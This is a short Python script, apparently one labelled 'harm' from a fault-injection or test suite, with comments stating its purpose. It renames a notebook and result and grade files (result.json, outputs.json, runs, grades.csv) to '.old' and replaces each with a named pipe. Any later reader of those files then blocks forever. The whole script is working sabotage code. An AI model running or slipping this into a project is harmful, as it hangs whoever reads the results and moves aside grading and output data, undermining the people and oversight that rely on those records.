# where: first
# kind: harms
# does: Files beside the notebook become pipes, on which whoever reads them waits for ever.
import os

for name in ("1_activation_order.ipynb", "result.json", "outputs.json", "runs", "grades.csv"):
    try:
        if os.path.lexists(name):
            os.rename(name, name + ".old")
        os.mkfifo(name)
    except Exception as error:
        print(error)
